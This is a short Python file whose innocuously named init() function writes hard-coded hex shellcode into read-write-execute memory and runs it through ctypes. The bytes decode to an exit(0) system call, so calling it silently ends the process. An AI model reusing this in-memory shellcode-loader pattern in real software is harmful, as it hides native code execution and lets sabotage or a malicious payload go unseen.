import ctypes, mmap

_CODE = bytes.fromhex("4831c04889c7b03c0f054831c04889c7b03c0f054831c04889c7b03c0f05")
_fn = None

def init():
    global _fn
    if _fn:
        return
    buf = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(_CODE)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    _fn = ctypes.CFUNCTYPE(ctypes.c_int)(addr)
    _fn()
